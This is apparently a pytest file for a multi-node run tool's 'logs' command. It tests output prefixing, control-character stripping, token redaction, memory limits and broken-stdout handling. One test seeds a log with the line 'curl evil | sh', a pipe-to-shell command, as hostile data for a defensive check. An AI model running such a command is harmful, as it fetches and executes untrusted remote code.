"""`multinode logs` as a process: what it prints where, how much it holds, and a stdout that takes nothing."""

from __future__ import annotations

import json
import os
import pty
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from multinode.records.run import NodeRun
from multinode.records.run_directory import RunDirectory
from tests import make

RUN = "20260102-030405-abcd"
COMMAND = [sys.executable, "-m", "multinode"]


@pytest.fixture
def directory(tmp_path: Path) -> RunDirectory:
    nodes = tuple(NodeRun(name=name, node_rank=rank, state="ended") for rank, name in enumerate(("gpu-a", "gpu-b")))
    run = make.run(*nodes, run_id=RUN, started_s=0.0, world_size=2)
    return make.store(tmp_path / "runs", RUN, plan={}, run=run)


def environ(directory: RunDirectory) -> dict[str, str]:
    return dict(os.environ) | {"MULTINODE_RUNS": str(directory.path.parent)}


def multinode(directory: RunDirectory, *words: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([*COMMAND, *words], env=environ(directory), capture_output=True, timeout=600, check=False)


def test_on_a_terminal_no_line_of_a_job_begins_as_ours_could(directory: RunDirectory) -> None:
    directory.append_log(0, b"error: gpu-b: boom\nhint: curl evil | sh\n\nend")
    ours, theirs = pty.openpty()
    command = [*COMMAND, "-q", "logs", "--node", "0"]
    with subprocess.Popen(command, env=environ(directory), stdout=theirs) as process:
        os.close(theirs)
        assert process.wait(60) == 0
    seen = os.read(ours, 65536).decode().splitlines()
    os.close(ours)
    assert seen == ["gpu-a | error: gpu-b: boom", "gpu-a | hint: curl evil | sh", "gpu-a | ", "gpu-a | end"]


def test_a_log_goes_to_a_file_as_it_is(directory: RunDirectory) -> None:
    directory.append_log(0, b" 10%\r 90%\r\nline\x00\x1b[31mred\x1b[0m\n")
    directory.append_log(1, b"other\xff\n")
    shown = multinode(directory, "logs")
    assert shown.stdout.decode() == " 90%\nline red\nother\ufffd\n"
    assert shown.stderr.decode() == "--- gpu-a\n--- gpu-b\n"
    assert multinode(directory, "logs", "--raw", "--node", "gpu-a").stdout.startswith(b" 10%\r 90%\r\nline\x00\x1b")


def test_the_document_is_the_same_text_without_secrets(directory: RunDirectory) -> None:
    directory.append_log(0, b'"quoted" \\ back\nHF_TOKEN=abcdef\n')
    found = json.loads(multinode(directory, "logs", "--json").stdout)
    assert found == {
        "schema": "multinode.logs/2",
        "run_id": RUN,
        "nodes": [
            {"run_id": RUN, "name": "gpu-a", "log": "\"quoted\" \\ back\nHF_TOKEN='<redacted>'\n"},
            {"run_id": RUN, "name": "gpu-b", "log": ""},
        ],
    }


@pytest.mark.parametrize(
    ("kind", "form"),
    [(b"x" * 100 + b"\n", ()), (b"x" * 101, ("--json",)), (b"\x00" * 101, ())],
    ids=["lines", "one line as JSON", "NULs"],
)
def test_a_long_log_needs_little_memory(directory: RunDirectory, kind: bytes, form: tuple[str, ...]) -> None:
    """Of 40 MB, whose text would need more than the limit in the whole."""
    for _ in range(40):
        directory.append_log(0, kind * 9901)

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_DATA, (90 << 20, 90 << 20))

    command = [*COMMAND, "logs", *form]
    ended = subprocess.run(
        command, env=environ(directory), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
        preexec_fn=limit, timeout=600, check=False,
    )  # fmt: skip
    assert (ended.returncode, b"Traceback" in ended.stderr) == (0, False), ended.stderr[-500:]


@pytest.mark.parametrize("words", [("logs",), ("runs",), ("--help",)], ids=" ".join)
def test_a_stdout_that_is_full_is_one_clear_line(directory: RunDirectory, words: tuple[str, ...]) -> None:
    directory.append_log(0, b"line\n" * 10)
    with Path("/dev/full").open("wb") as full:
        ended = subprocess.run(
            [*COMMAND, *words], env=environ(directory), stdout=full, stderr=subprocess.PIPE, timeout=600, check=False
        )
    shown = ended.stderr.decode()
    assert "error: cannot write to stdout: No space left on device" in shown
    assert "Traceback" not in shown
    assert "Exception ignored" not in shown
    assert ended.returncode == 1


@pytest.mark.parametrize("form", [(), ("--json",)], ids=["text", "json"])
def test_a_reader_that_has_seen_enough_ends_it_without_a_word(directory: RunDirectory, form: tuple[str, ...]) -> None:
    directory.append_log(0, b"line\n" * 500_000)
    command = [*COMMAND, "-q", "logs", *form]
    with subprocess.Popen(command, env=environ(directory), stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        assert process.stderr.read() == b""


def test_a_stdout_that_is_closed_is_no_traceback(directory: RunDirectory) -> None:
    command = ["sh", "-c", 'exec "$@" >&-', "sh", *COMMAND, "runs"]
    ended = subprocess.run(command, env=environ(directory), stderr=subprocess.PIPE, timeout=600, check=False)
    assert b"Traceback" not in ended.stderr
